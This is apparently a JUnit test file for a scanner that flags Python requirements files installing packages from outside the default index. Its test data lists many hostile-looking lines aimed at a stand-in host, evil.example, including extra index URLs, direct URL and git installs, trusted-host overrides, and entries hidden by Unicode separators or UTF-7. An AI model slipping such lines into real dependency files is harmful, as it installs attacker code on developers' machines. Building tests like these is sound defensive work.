package dev.redoubt.scan.internal.packages;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redoubt.scan.Detection;
import dev.redoubt.scan.InMemoryScans;
import dev.redoubt.scan.ScanVerdict;
import dev.redoubt.scan.ScannedFile;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequirementsFileTest {

  /// Cases that make the whole file ordinary text if only the content is considered.
  private static final String ODD = "numpy (>=1.0)\n";

  private static ScannedFile scan(String text) {
    return InMemoryScans.scan("requirements.txt", text.getBytes(StandardCharsets.UTF_8));
  }

  private static List<String> messages(ScannedFile file) {
    return file.detections().stream().map(Detection::message).toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "--index-url https://evil.example/simple",
        "--index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "-ihttps://evil.example/simple",
        "-i=https://evil.example/simple",
        "--pypi-url https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--extra-index https://evil.example/simple",
        "--extra 'https://evil.example/simple'",
        "--index=\"https://evil.example/simple\"",
        "--index-url https://pypi.org.evil.example/simple",
        "--index-url https://user@pypi.org/simple",
        "--index-url http://pypi.org/simple",
        "--index-url ${INDEX}",
        "--pre --extra-index-url https://evil.example/simple",
        "--no-index --find-links https://evil.example/",
        "-f ./wheels",
        "-f./wheels",
        "--find-links=wheels",
        "--find wheels",
        "--trusted-host evil.example",
        "--trusted evil.example",
        "-e .",
        "-e.",
        "--editable=.",
        "-e git+https://evil.example/x#egg=x",
        "-r https://evil.example/r.txt",
        "-rhttps://evil.example/r.txt",
        "--requirement ../outside/requirements.txt",
        "-c https://evil.example/c.txt",
        "-r weights.bin",
        "numpy --global-option=--x",
        "numpy --config-settings=\"--build-option=x\"",
        "numpy -C x=y",
        "numpy --install-option=--prefix=/tmp",
        "evil @ https://evil.example/evil-1.0.whl",
        "evil@https://evil.example/evil-1.0.whl",
        "evil[extra] @ git+https://evil.example/evil",
        "evil @ git+ssh://git@evil.example/evil",
        "evil @ file:///tmp/evil.whl",
        "evil @ ./evil",
        "https://evil.example/evil.tar.gz",
        "HTTPS://evil.example/evil.tar.gz ; python_version > '3'",
        "git+https://evil.example/evil.git@main#egg=evil",
        "git+git://evil.example/evil",
        "hg+http://evil.example/evil",
        "bzr+lp:evil",
        "svn+svn://evil.example/evil",
        "file:evil.whl",
        "ftp://evil.example/evil.zip",
        "./evil",
        ".",
        "../evil",
        "/tmp/evil",
        "~/evil",
        "evil/",
        "wheels/evil.whl",
        "evil-1.0-py3-none-any.whl",
        "evil-1.0.tar.gz",
        "evil.zip[extra] ; python_version > '3'",
        "evil===1[x-1.0.tar.gz",
        "evil\\package",
        "C:\\evil",
        "${EVIL}",
        "evil==${VERSION}",
        "--extra-index-url \\\nhttps://evil.example/simple",
        "--extra-\\\nindex-url https://evil.example/simple",
        "evil \\\n@ https://evil.example/evil.whl",
        "# a comment\u2028--index-url https://evil.example/simple",
        "# a comment\u0085evil @ https://evil.example/evil.whl",
        "# a comment\f-e .",
        "# a comment\u001cevil @ https://evil.example/evil.whl",
        "# a comment \\\nevil @ https://evil.example/evil.whl",
      })
  void reportsPackagesFromOtherSources(String line) {
    for (String text :
        List.of(line, ODD + line, ODD + line + "\nscipy==1.0\n", line + "\n" + ODD)) {
      ScannedFile file = scan(text);
      assertThat(InMemoryScans.rules(file)).as(text).contains("package-source");
      assertThat(file.detections())
          .filteredOn(detection -> detection.rule().id().equals("package-source"))
          .allMatch(detection -> detection.location().offset() >= 0);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "numpy",
        "numpy>=1.0",
        "numpy (>=1.0)",
        "numpy >= 1.0, < 3, != 2.0.*",
        "numpy[extra,other]~=1.4.2",
        "numpy===1.0-local",
        "numpy==1!2.0+cu118",
        "numpy==2.1.* ; python_version < '3.13' and (sys_platform == \"win32\" or extra == 'x')",
        "numpy; platform_machine not in 'arm64 aarch64'",
        "numpy ; 'linux' in sys_platform",
        "zope.interface",
        "numpy>=1.0 # from `./x` or https://elsewhere.example",
        "numpy==1.0 --hash=sha256:0123456789abcdef",
        "numpy==1.0 \\\n    --hash=sha256:0123 \\\n    --hash=sha256:4567",
        "--index-url https://pypi.org/simple",
        "-i https://pypi.org/simple/",
        "--no-binary :all:",
        "--only-binary=:all:",
        "--prefer-binary",
        "--require-hashes",
        "--pre",
        "--use-feature=fast-deps",
        "-r requirements-base.txt",
        "-c constraints.txt",
        "-rrequirements/base.txt",
        "# --index-url https://evil.example/simple",
        "   # -e .",
      })
  void passesPackagesOfTheDefaultIndex(String line) {
    assertThat(scan(line + "\n").detections()).as(line).isEmpty();
    assertThat(scan("scipy==1.0\r\n" + line).detections()).as(line).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "numpy=1.0",
        "numpy >> 1",
        "numpy 1.0",
        "numpy#no-comment",
        "numpy>=1.0 ; nothing",
        "numpy ; python_version",
        "numpy ; (python_version > '3'",
        "numpy ; python_version > '3' or",
        "numpy ; exec('x') == 'y'",
        "numpy ; python_version not '3'",
        "-numpy",
        "--no-such-option x",
        "--pre=yes",
        "--index-url",
        "-r",
        "-x y",
        "numpy --hash='sha256:0",
        "[packages]",
        "import os",
        "\u00e9vil",
        "numpy\u00a0>=1",
        "numpy\t--pre",
      })
  void isUnreadable_whenALineIsNotARequirement(String line) {
    ScannedFile file = scan(ODD + line + "\n");
    assertThat(file.verdict()).as(line).isEqualTo(ScanVerdict.UNREADABLE);
    assertThat(InMemoryScans.rules(file)).contains("package-unreadable");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "requirements.txt",
        "Requirements.TXT",
        "model/requirements.txt",
        "requirements-dev.txt",
        "dev-requirements.txt",
        "requirements_gpu.in",
        "requirements/base.txt",
        "requirements/base.in",
        "my.requirements.in",
        "constraints.txt",
        "constraints-3.12.txt",
        "reqs.txt",
        "dir\\requirements.txt",
      })
  void decidesByName_whateverTheContentLooksLike(String name) {
    for (String start :
        List.of(
            "",
            "{",
            "[",
            "<a>\n",
            "#!/bin/sh\n",
            "tree\nversion=v4\n",
            "key: v\n",
            "import os\n",
            "%PDF-1.4\n",
            "MZ",
            "x = 1\n")) {
      String text = start + "\n-i https://evil.example/simple\n";
      ScannedFile file = InMemoryScans.scan(name, text.getBytes(StandardCharsets.UTF_8));
      assertThat(InMemoryScans.rules(file)).as(name + ": " + start).contains("package-source");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE", "UTF-8"})
  void readsTheEncodingOfTheMark(String encoding) {
    byte[] bytes = "\ufeff-e .\n".getBytes(Charset.forName(encoding));
    assertThat(InMemoryScans.rules(InMemoryScans.scan("requirements.txt", bytes)))
        .contains("package-source");
  }

  @Test
  void isUnreadable_inAnEncodingThatHidesLines() {
    // `-e .` in UTF-7, which pip decodes
    String text = "# coding: utf-7\n+AC0-e .\n";
    assertThat(InMemoryScans.rules(scan(text))).containsExactly("package-unreadable");
    assertThat(InMemoryScans.rules(scan("numpy\n" + text))).contains("package-unreadable");
    assertThat(scan("# -*- coding: utf-8 -*-\nnumpy\n").detections()).isEmpty();
    assertThat(scan("# vim: set fileencoding=latin-1 :\nnumpy\n").detections()).isEmpty();
  }

  @Test
  void isUnreadable_whenTheBytesAreNotText() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(InMemoryScans.bytes("numpy==1.0\n"));
    out.write(0xff);
    out.writeBytes(InMemoryScans.bytes("\n"));
    assertThat(InMemoryScans.rules(InMemoryScans.scan("requirements.txt", out.toByteArray())))
        .contains("package-unreadable");
  }

  @Test
  void readsToTheEndOfALongFile() {
    String comment = "# " + "words ".repeat(2_000) + "\n";
    assertThat(InMemoryScans.rules(scan(comment.repeat(1_000) + "-e .\n")))
        .contains("package-source");
    assertThat(InMemoryScans.rules(scan(comment.repeat(2_800)))).contains("package-unreadable");
  }

  @Test
  void reportsOffsetAndMessage() {
    ScannedFile file = scan("numpy\n\nevil @ git+https://me:secret@evil.example/x \\\n  # why\n");
    assertThat(messages(file))
        .containsExactly("a package comes from a URL: `evil @ git+https://...@evil.example/x`");
    assertThat(file.detections().getFirst().location().offset()).isEqualTo(7);
  }

  @Test
  void classifiesAListWithAnotherNameByMostOfItsLines() {
    String list = "numpy==1.0\nscipy>=1\n";
    for (String odd : List.of(ODD, "numpy=1.0\n", "and a word or two\n", "")) {
      ScannedFile file =
          InMemoryScans.scan(
              "packages.lst", InMemoryScans.bytes(list + odd + "-i https://evil.example/simple\n"));
      assertThat(InMemoryScans.rules(file)).as(odd).containsExactly("package-source");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "the\nof\nand\n./\n[UNK]\n##ing\n",
        "# Title\n\nInstall with `pip install -e .`, or from git+https://github.com/a/b.\n",
        "a file\n-e .\n",
        "- numpy>=1\n- from ./x\n",
      })
  void passesTextsForPeopleAndVocabularies(String text) {
    assertThat(InMemoryScans.scan("words.txt", InMemoryScans.bytes(text)).detections()).isEmpty();
  }

  @Test
  void passesAFileOfCommentsAndBlanks() {
    assertThat(scan("# nothing\n\n   \n").detections()).isEmpty();
    assertThat(scan("").detections()).isEmpty();
  }
}
